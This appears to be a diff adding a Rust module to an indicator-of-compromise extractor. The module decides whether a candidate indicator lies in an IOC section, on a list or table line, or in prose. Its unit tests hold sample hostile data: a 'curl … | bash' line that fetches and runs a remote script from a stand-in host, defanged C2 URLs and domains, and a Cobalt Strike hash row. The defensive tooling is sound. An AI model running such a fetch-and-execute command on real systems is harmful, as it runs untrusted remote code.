@@ -1,0 +1,289 @@
+//! Where an indicator sits: in an indicator section (after a heading such as
+//! "Indicators of Compromise", until the next other heading), on an IOC-style line (a
+//! list item or table row that is mostly indicators), or in prose; and the words around
+//! it. A text that is nothing but such lines is an indicator list as a whole.
+
+use std::ops::Range;
+
+use memchr::{memchr, memrchr};
+
+use super::kb::IocKb;
+
+/// Facts about one candidate's surroundings.
+#[derive(Debug, Clone)]
+pub(crate) struct Facts {
+    /// The line is mostly indicators: a list item, table row or command line.
+    pub ioc_line: bool,
+    /// The line is in an indicator section (or the whole text is an indicator list).
+    pub ioc_section: bool,
+    /// Byte range of the candidate's line.
+    pub line: Range<usize>,
+    /// Byte range of the sentence-ish window around the candidate.
+    pub window: Range<usize>,
+}
+
+/// Walks the text's lines forward as candidates are judged in text order.
+pub(crate) struct Context<'a> {
+    t: &'a str,
+    kb: &'a IocKb,
+    /// Start of the next line the section tracker has not read.
+    cursor: usize,
+    in_section: bool,
+    prev_blank: bool,
+    whole_list: Option<bool>,
+}
+
+/// Most prose words a list item may carry ("C2 server:", "SHA256", "dropper").
+const LIST_WORDS: usize = 3;
+/// Most prose words of a table row (a description column).
+const TABLE_WORDS: usize = 12;
+
+impl<'a> Context<'a> {
+    pub fn new(t: &'a str, kb: &'a IocKb) -> Self {
+        Self {
+            t,
+            kb,
+            cursor: 0,
+            in_section: false,
+            prev_blank: true,
+            whole_list: None,
+        }
+    }
+
+    /// Facts for a candidate at `span`; calls must come in text order.
+    pub fn facts(&mut self, span: Range<usize>) -> Facts {
+        let b = self.t.as_bytes();
+        let ls = memrchr(b'\n', &b[..span.start]).map_or(0, |i| i + 1);
+        let le = memchr(b'\n', &b[span.start..]).map_or(b.len(), |i| span.start + i);
+        self.advance_to(ls);
+        let line = &self.t[ls..le];
+        let whole = self.whole_list();
+        Facts {
+            ioc_line: ioc_style(line),
+            ioc_section: whole || self.in_section,
+            line: ls..le,
+            window: window(self.t, ls..le, span),
+        }
+    }
+
+    /// Reads section headings in the lines before `line_start`.
+    fn advance_to(&mut self, line_start: usize) {
+        let b = self.t.as_bytes();
+        while self.cursor < line_start {
+            let s = self.cursor;
+            let e = memchr(b'\n', &b[s..line_start]).map_or(line_start, |i| s + i);
+            let line = self.t[s..e].trim();
+            if line.is_empty() {
+                self.prev_blank = true;
+            } else {
+                let next_blank = {
+                    let ns = (e + 1).min(b.len());
+                    let ne = memchr(b'\n', &b[ns..]).map_or(b.len(), |i| ns + i);
+                    self.t[ns..ne].trim().is_empty()
+                };
+                match heading(line, self.prev_blank, next_blank) {
+                    Heading::Not => {}
+                    Heading::Weak if has_ioc_word(line, self.kb) => self.in_section = true,
+                    Heading::Weak => {}
+                    Heading::Strong => self.in_section = has_ioc_word(line, self.kb),
+                }
+                self.prev_blank = false;
+            }
+            self.cursor = e + 1;
+        }
+    }
+
+    /// Whether every non-blank line of the text is IOC-style (a pasted indicator list).
+    fn whole_list(&mut self) -> bool {
+        *self
+            .whole_list
+            .get_or_insert_with(|| self.t.lines().all(|l| l.trim().is_empty() || ioc_style(l)))
+    }
+}
+
+enum Heading {
+    /// Not a heading.
+    Not,
+    /// A short label line ("The following domains were used:"): opens a section when it
+    /// names indicators, closes nothing.
+    Weak,
+    /// A heading set apart (Markdown `#`, or blank lines around a short title): it opens
+    /// an indicator section or closes the current one.
+    Strong,
+}
+
+fn heading(line: &str, prev_blank: bool, next_blank: bool) -> Heading {
+    if line.starts_with('#') {
+        return Heading::Strong;
+    }
+    if line.len() > 100 || line.ends_with(['.', ',', ';', '!', '?']) {
+        return Heading::Not;
+    }
+    let mut words = 0;
+    for tok in line.split_whitespace() {
+        let w = tok.trim_matches(|c: char| !c.is_alphanumeric());
+        if w.is_empty() {
+            continue;
+        }
+        // Indicators and numbers are not heading words (section numbers excepted).
+        let numbering = w.bytes().all(|c| c.is_ascii_digit() || c == b'.') && words == 0;
+        if !numbering
+            && !w
+                .chars()
+                .all(|c| c.is_alphabetic() || matches!(c, '-' | '&' | '\'' | '’'))
+        {
+            return Heading::Not;
+        }
+        words += 1;
+    }
+    if words == 0 || words > 8 {
+        return Heading::Not;
+    }
+    let titled = line
+        .chars()
+        .find(|c| c.is_alphabetic())
+        .is_some_and(char::is_uppercase);
+    if titled && prev_blank && next_blank && !line.ends_with(':') {
+        Heading::Strong
+    } else {
+        Heading::Weak
+    }
+}
+
+fn has_ioc_word(line: &str, kb: &IocKb) -> bool {
+    line.split(|c: char| !(c.is_alphanumeric() || c == '-' || c == '&'))
+        .filter(|w| !w.is_empty())
+        .any(|w| kb.ctx.ioc_words.contains(w.to_lowercase().as_str()))
+}
+
+/// A line that is mostly indicators: few prose words (letters only), or a table row.
+pub(crate) fn ioc_style(line: &str) -> bool {
+    let mut prose = 0;
+    for tok in line.split_whitespace() {
+        let w = tok.trim_matches(|c: char| !c.is_alphanumeric());
+        if !w.is_empty()
+            && w.chars()
+                .all(|c| c.is_alphabetic() || matches!(c, '\'' | '’' | '-'))
+        {
+            prose += 1;
+            if prose > TABLE_WORDS {
+                return false;
+            }
+        }
+    }
+    let table = line.matches('|').count() >= 2 || line.contains('\t');
+    prose <= LIST_WORDS || (table && prose <= TABLE_WORDS)
+}
+
+/// The sentence around `span` within its line, at most 240 bytes each side.
+fn window(t: &str, line: Range<usize>, span: Range<usize>) -> Range<usize> {
+    let b = t.as_bytes();
+    let lo = line.start.max(span.start.saturating_sub(240));
+    let hi = line.end.min(span.end + 240);
+    let mut s = lo;
+    for i in (lo..span.start).rev() {
+        if i + 1 < b.len() && matches!(b[i], b'.' | b'!' | b'?') && b[i + 1] == b' ' {
+            s = i + 2;
+            break;
+        }
+    }
+    let mut e = hi;
+    for i in span.end..hi {
+        if matches!(b[i], b'.' | b'!' | b'?') && (i + 1 >= b.len() || b[i + 1] == b' ') {
+            e = i + 1;
+            break;
+        }
+    }
+    while !t.is_char_boundary(s) {
+        s += 1;
+    }
+    while !t.is_char_boundary(e) {
+        e -= 1;
+    }
+    s.min(span.start)..e.max(span.end)
+}
+
+/// Up to the last `n` words before `pos` on its line, not reaching back past `floor`,
+/// lower-cased, split at anything but letters, digits and hyphens.
+pub(crate) fn words_before(t: &str, floor: usize, pos: usize, n: usize) -> Vec<String> {
+    let b = t.as_bytes();
+    let ls = memrchr(b'\n', &b[..pos])
+        .map_or(0, |i| i + 1)
+        .max(floor)
+        .min(pos);
+    let mut s = pos.saturating_sub(80).max(ls);
+    while !t.is_char_boundary(s) {
+        s += 1;
+    }
+    let mut words: Vec<String> = t[s..pos]
+        .split(|c: char| !(c.is_alphanumeric() || c == '-'))
+        .filter(|w| !w.is_empty() && *w != "-")
+        .map(str::to_lowercase)
+        .collect();
+    let k = words.len().saturating_sub(n);
+    words.drain(..k);
+    words
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::iocs::kb::tests::embedded;
+
+    #[test]
+    fn ioc_style_lines() {
+        for l in [
+            "evil[.]com",
+            "- hxxp://evil.com/gate.php",
+            "C2 server: 185.220.101.45",
+            "SHA256 | 9002a1d3… | loader.dll | Cobalt Strike beacon",
+            "curl -s https://x.example/a.sh | bash",
+        ] {
+            assert!(ioc_style(l), "{l}");
+        }
+        assert!(!ioc_style(
+            "The actor registered the domain evil.com in March to host the kit."
+        ));
+    }
+
+    #[test]
+    fn sections_open_at_ioc_headings_and_close_at_others() {
+        let kb = embedded();
+        let text = "Intro prose line that is long enough to be prose, really.\n\n\
+                    Indicators of Compromise\n\nevil.com\nThe loader uses bad.com as its C2.\n\n\
+                    Conclusion\n\nSee other.com for details.\n";
+        let mut c = Context::new(text, &kb);
+        let at = |s: &str| text.find(s).unwrap();
+        let f = c.facts(at("evil.com")..at("evil.com") + 8);
+        assert!(f.ioc_section && f.ioc_line);
+        let f = c.facts(at("bad.com")..at("bad.com") + 7);
+        assert!(f.ioc_section && !f.ioc_line);
+        assert_eq!(
+            &text[f.window.clone()],
+            "The loader uses bad.com as its C2."
+        );
+        let f = c.facts(at("other.com")..at("other.com") + 9);
+        assert!(!f.ioc_section);
+    }
+
+    #[test]
+    fn a_pure_list_is_one_section() {
+        let kb = embedded();
+        let text = "evil[.]com\n1.2.3.4\n\nhxxp://x.example/a\n";
+        let mut c = Context::new(text, &kb);
+        assert!(c.facts(0..4).ioc_section);
+        let prose = "some text with a domain.like.uk in it";
+        assert!(!Context::new(prose, &kb).facts(17..31).ioc_section);
+    }
+
+    #[test]
+    fn words_before_stop_at_the_line() {
+        let t = "x\nCertificate thumbprint: ABCDEF";
+        let pos = t.find("ABC").unwrap();
+        assert_eq!(
+            words_before(t, 0, pos, 3),
+            vec!["certificate", "thumbprint"]
+        );
+        assert_eq!(words_before(t, 0, 0, 3), Vec::<String>::new());
+    }
+}
